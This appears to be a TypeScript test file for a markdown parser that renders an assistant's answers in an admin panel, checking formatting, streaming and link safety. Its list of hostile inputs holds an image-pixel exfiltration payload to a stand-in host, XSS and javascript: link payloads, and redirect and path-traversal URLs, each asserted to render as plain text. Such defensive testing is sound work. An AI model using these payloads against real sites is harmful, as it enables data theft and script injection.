import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { adminPath } from './admin-path.ts'
import { type Block, parseBlock, splitBlocks } from './blocks.ts'
import { type Inline, parseInline } from './inline.ts'

const parse = (text: string): Block[] => splitBlocks(text).map((block) => parseBlock(block, '/admin'))

const KINDS = ['text', 'code', 'bold', 'italic', 'link', 'heading', 'paragraph', 'quote', 'list', 'table', 'rule']

/** Every node of a tree, whatever it is below. */
const nodesOf = (value: unknown): Record<string, unknown>[] => {
  if (Array.isArray(value)) return value.flatMap(nodesOf)
  if (typeof value !== 'object' || value === null) return []
  const own = 'kind' in value ? [{ ...value }] : []
  return [...own, ...Object.values(value).flatMap(nodesOf)]
}

const linksOf = (text: string): unknown[] =>
  nodesOf(parse(text)).flatMap((node) => (node.kind === 'link' ? [node.to] : []))

const textOf = (nodes: readonly Inline[]): string =>
  nodes.map((node) => ('children' in node ? textOf(node.children) : node.text)).join('')

describe('the text of an answer', () => {
  test('has paragraphs, headings, lists, code, bold and italic', () => {
    const blocks = parse(
      [
        '## Result',
        'Three **bold** and *slanted* words, `a *b* c`:',
        '- one',
        '  - below',
        '- two',
        '  and more',
        '',
        '3. third',
        '4. fourth',
        '',
        '```js',
        'const a = "<b>"',
        '',
        '# no heading',
        '```',
        'After it.',
      ].join('\n'),
    )
    assert.deepEqual(
      blocks.map(({ kind }) => kind),
      ['heading', 'paragraph', 'list', 'list', 'code', 'paragraph'],
    )
    assert.deepEqual(blocks[1], {
      kind: 'paragraph',
      children: [
        { kind: 'text', text: 'Three ' },
        { kind: 'bold', children: [{ kind: 'text', text: 'bold' }] },
        { kind: 'text', text: ' and ' },
        { kind: 'italic', children: [{ kind: 'text', text: 'slanted' }] },
        { kind: 'text', text: ' words, ' },
        { kind: 'code', text: 'a *b* c' },
        { kind: 'text', text: ':' },
      ],
    })
    const [, , list, ordered, code] = blocks
    assert.equal(list?.kind === 'list' && list.items.length, 2)
    assert.equal(list?.kind === 'list' && list.items[0]?.below[0]?.kind, 'list')
    assert.equal(list?.kind === 'list' && textOf(list.items[1]?.children ?? []), 'two\nand more')
    assert.equal(ordered?.kind === 'list' && ordered.start, 3)
    assert.deepEqual(code, { kind: 'code', text: 'const a = "<b>"\n\n# no heading' })
  })

  test('leaves names, sums and lone marks as they are', () => {
    for (const text of ['snake_case_name', '2 * 3 * 4', 'a ** b', '**open', '`open', 'five_', '[a](b', '__', '***'])
      assert.equal(textOf(parseInline(text)), text)
  })

  test('draws a table, and a fence that is still open', () => {
    const [table] = parse('| Name | Count |\n|---|--:|\n| **A** | 2 |')
    assert.equal(table?.kind === 'table' && table.rows.length, 1)
    assert.deepEqual(parse('```\nhalf'), [{ kind: 'code', text: 'half' }])
  })

  test('changes only its last block while it grows', () => {
    const text = '# Title\n\nFirst *one*.\n\n- a\n- b\n\n```\ncode\n\nmore\n```\n\nLast words'
    let before: string[] = []
    for (let length = 1; length <= text.length; length += 1) {
      const now = splitBlocks(text.slice(0, length))
      // The one that was last may have become another; those before it are final
      assert.deepEqual(now.slice(0, Math.max(0, before.length - 1)), before.slice(0, -1))
      before = now
    }
  })
})

describe('addresses in an answer', () => {
  test('lead to screens of the admin, with and without its path', () => {
    assert.deepEqual(linksOf('[a](/content/article/1) [b](/admin/media?q=sea) [c](/)'), [
      '/content/article/1',
      '/media?q=sea',
      '/',
    ])
  })

  test('of other places are shown whole, as text', () => {
    const [block] = parse('See [the docs](https://evil.test/a?b=c) and https://other.test')
    assert.equal(
      block?.kind === 'paragraph' && textOf(block.children),
      'See the docs (https://evil.test/a?b=c) and https://other.test',
    )
  })

  const HOSTILE = [
    '![x](https://evil.test/pixel.png?d=secret)',
    '![](https://evil.test/pixel.png)',
    '[![x](https://evil.test/a.png)](https://evil.test)',
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<a href="https://evil.test">a</a>',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert%281%29)',
    '[a](data:text/html,<script>alert(1)</script>)',
    '[a](//evil.test/x)',
    '[a](/\\evil.test)',
    '[a](\\\\evil.test)',
    '[a](/%2f/evil.test)',
    '[a](/%5cevil.test)',
    '[a](/admin//evil.test)',
    '[a](/content/../../api/auth/logout)',
    '[a](/content/%2e%2e/api)',
    '[a](/api/entries)',
    '[a](/admin/api/entries)',
    '[a](https:evil.test)',
    '[a](vbscript:x)',
    '[a](\u0001javascript:alert(1))',
    '[a](/content\n//evil.test)',
    '[a][1]\n\n[1]: https://evil.test',
    '<https://evil.test>',
    '[a](/settings "x" onclick=y)',
    '[**a**](https://evil.test)',
    '| a |\n|---|\n| ![x](https://evil.test/p.png) |',
    '> [a](https://evil.test)',
    '- ![x](https://evil.test/p.png)',
    '# [a](javascript:alert(1))',
  ]

  for (const text of HOSTILE)
    test(`never become more than text: ${JSON.stringify(text)}`, () => {
      const nodes = nodesOf(parse(text))
      assert.deepEqual(
        nodes.filter(({ kind }) => !KINDS.includes(String(kind))),
        [],
      )
      assert.deepEqual(linksOf(text), [])
    })

  test('are those of known screens only', () => {
    for (const bad of ['', 'content', '/unknown', '/content//x', '/content/x#y', 'http://x/content', '/%00content'])
      assert.equal(adminPath(bad), undefined, bad)
    assert.equal(adminPath('/administration', '/admin'), undefined)
    assert.equal(adminPath('/admin', '/admin'), '/')
  })
})
